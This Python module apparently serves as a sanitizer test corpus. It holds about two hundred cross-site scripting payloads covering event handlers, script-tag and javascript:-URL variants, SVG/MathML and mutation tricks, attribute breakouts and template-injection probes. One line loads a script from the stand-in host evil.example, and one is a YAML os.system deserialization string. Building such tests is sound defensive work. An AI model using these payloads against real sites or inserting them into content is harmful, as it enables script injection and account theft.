"""Two hundred ways to get a script into a page, of every kind that we know of; each sets `pwned` when it lives.

Kinds and forms are those of the public collections (OWASP's and PortSwigger's cheat sheets, DOMPurify's own tests);
the texts are ours. None holds a line break, so that each is also one line of front matter.
"""

from __future__ import annotations

RUN = "window.pwned=1"

_STARTS = """
img src=x onerror; img src onerror; image src=x onerror; body onload; body onpageshow; body onhashchange;
input autofocus onfocus; select autofocus onfocus; textarea autofocus onfocus; keygen autofocus onfocus;
details open ontoggle; video src=x onerror; video><source onerror; audio src=x onerror; svg onload; svg><g
onload; svg><animate attributeName=x dur=1s onbegin; svg><set attributeName=x onbegin; marquee onstart; object
data=x onerror; embed src=x onload; iframe src=about:blank onload; link rel=stylesheet href=x onerror; style
onload; script src=x onerror; meter onmouseover; p tabindex=1 id=x autofocus onfocus; p style=animation:x
onanimationstart; p onpointerrawupdate; button popovertarget=x onbeforetoggle; x contenteditable autofocus
onfocus; dialog open onclose; p hidden=until-found onbeforematch; p onscrollend
"""
_HANDLERS = [f"<{start.strip()}={RUN}>" for start in _STARTS.split(";")]
_WRITTEN = [
    f"<IMG SRC=x ONERROR={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x onerror\t=\t{RUN}>",
    f"<img src=x onerror='{RUN}'//>",
    f"<img src=`x` onerror=`{RUN}`>",
    f"<img src='x'onerror='{RUN}'>",
    f"<<img src=x onerror={RUN}>",
    f"<img src=x onerror={RUN} ",
    f"<\x0bimg src=x onerror={RUN}>",
    f'<img src=x a=">" onerror={RUN}>',
    f"<a/onmouseover={RUN}>x</a>",
    f"</p onmouseover={RUN}>",
    f"<ſcript>{RUN}</ſcript>",
    f"＜img src=x onerror={RUN}＞",
]
_SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script >{RUN}</script >",
    f"<script/x>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script>{RUN}//",
    f"<script type=module>{RUN}</script>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"<script src=//evil.example/x.js></script>",  # noqa: F541 - one of a list of such
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<!--><script>{RUN}</script>-->",
    f"<?xml ?><script>{RUN}</script>",
    f"`<script>{RUN}</script>",
    f"<xmp><script>{RUN}</script></xmp>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><script>{RUN}</script></noscript>",
]
_ADDRESSES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java&Tab;script:{RUN}",
    f"java&NewLine;script:{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6A;avascript&colon;{RUN}",
    f"&#0000106avascript:{RUN}",
    f"javascript&#58;{RUN}",
    f"javascript://%0a{RUN}",
    f"%6aavascript:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={RUN}>",
    f"view-source:javascript:{RUN}",
    f"feed:javascript:{RUN}",
    f"blob:javascript:{RUN}",
]
_LINKED = [
    form.format(address)
    for form in ("[x]({})", '<a href="{}">x</a>', "<{}>")
    for address in _ADDRESSES[:16]
] + [
    form.format(_ADDRESSES[0])
    for form in (
        "![x]({})", "[x](<{}>)", "[x][j] [j]: {}", "[[{}]]", "[[x|{}]]", "![[{}]]", "<img src={}>",
        "<form action={}><button>x",
        "<button formaction={} form=x>x", "<iframe src={}>", "<object data={}>", "<embed src={}>", "<base href={}>",
        "<area href={}>", "<map><area href={}></map>", "<input type=image formaction={}>", "<blockquote cite={}>x",
        "<video poster={}>", "<link rel=import href={}>", "<meta http-equiv=refresh content='0;url={}'>",
        "<iframe srcdoc='<a href={}>x'>", "<a ping={} href=x>x", "<a xlink:href={}>x</a>", "<table background={}><td>x",
    )
]  # fmt: skip
_NAMESPACES = [
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:,{RUN} />",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=9>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={RUN} />#x' /></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><desc><img src=x onerror={RUN}></desc></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<math><maction actiontype=statusline xlink:href='javascript:{RUN}'>x</maction></math>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={RUN}></annotation-xml></math>",
    f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>",
]
_MUTATIONS = [
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<math><mtext><p><img src=x onerror={RUN}></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    f"<iframe><p title='</iframe><img src=x onerror={RUN}>'>",
    f"<noembed><p title='</noembed><img src=x onerror={RUN}>'>",
    f"<textarea><p title='</textarea><img src=x onerror={RUN}>'>",
    f"<title><p title='</title><img src=x onerror={RUN}>'>",
    f"<select><template><style><a title='</style><img src=x onerror={RUN}>'>",
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    f"<p id='`<img src=x onerror={RUN}>'>",
    f"<table><a><tr><td><img src=x onerror={RUN}></table>",
    f"<svg><p><style><g title='</style><img src=x onerror={RUN}>'>",
    f"<div id='x' title='&quot;&gt;&lt;img src=x onerror={RUN}&gt;'>x</div>",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"\\<img src=x onerror={RUN}\\>",
    f"\x02wzxhzdk:0\x03<img src=x onerror={RUN}>",
]
_BREAKING = [
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f'" onmouseover="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f'"autofocus onfocus={RUN} x="',
    f'x" style="animation-name:x" onanimationstart="{RUN}',
    f'[x](y "\\" onmouseover={RUN} ")',
    f'![x" onerror="{RUN}](x.png)',
    f'![x](x.png\'" onerror="{RUN}")',
    f"![x|300 onerror={RUN}](x.png)",
    f'![x](x.png "</figcaption><img src=x onerror={RUN}>")',
    f"[x](x'onmouseover='{RUN})",
    f'```"><img src=x onerror={RUN}> x ```',
    f"# x {{: onmouseover={RUN} }}",
    f"x{{: onmouseover={RUN} }}",
    f'[^"><img src=x onerror={RUN}>]',
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f'$\\htmlData{{x="><img src=x onerror={RUN}>}}{{y}}$ $<img src=x onerror={RUN}>$',
    f"$$\\includegraphics{{javascript:{RUN}}}$$",
    f'[@key, "><img src=x onerror={RUN}>]',
]
_TEMPLATES = [
    "{{ ''.__class__.__mro__ }}{% raw %}<script>window.pwned=1</script>{% endraw %}",
    "{% include 'x' %}{{ config }}",
    "{{constructor.constructor('window.pwned=1')()}}",
    "${window.pwned=1}",
    "#{window.pwned=1}",
    "<%= window.pwned=1 %>",
    "{{{{}}}}<img src=x onerror=window.pwned=1>",
    "{# <script>window.pwned=1</script> #}",
]
_FIELDS = [
    f"{{\\href{{javascript:{RUN}}}{{x}}}}",
    f"\\url{{javascript:{RUN}}}",
    f"$<$img src=x onerror={RUN}$>$",
    f"{{\\textless}}img src=x onerror={RUN}{{\\textgreater}}",
    f"<i>x</i><img src=x onerror={RUN}>",
    f"<scp>x</scp><sub onclick={RUN}>2</sub>",
    f'!!python/object/apply:os.system ["{RUN}"]',
    f"__proto__: {{x: <img src=x onerror={RUN}>}}",
    f"</script></title></head><body onload={RUN}>",
    f"<jats:p><jats:inline-graphic onerror={RUN} /></jats:p>",
]
PAYLOADS = tuple(dict.fromkeys([
    *_HANDLERS, *_WRITTEN, *_SCRIPTS, *_LINKED, *_NAMESPACES, *_MUTATIONS, *_BREAKING, *_TEMPLATES, *_FIELDS,
]))  # fmt: skip
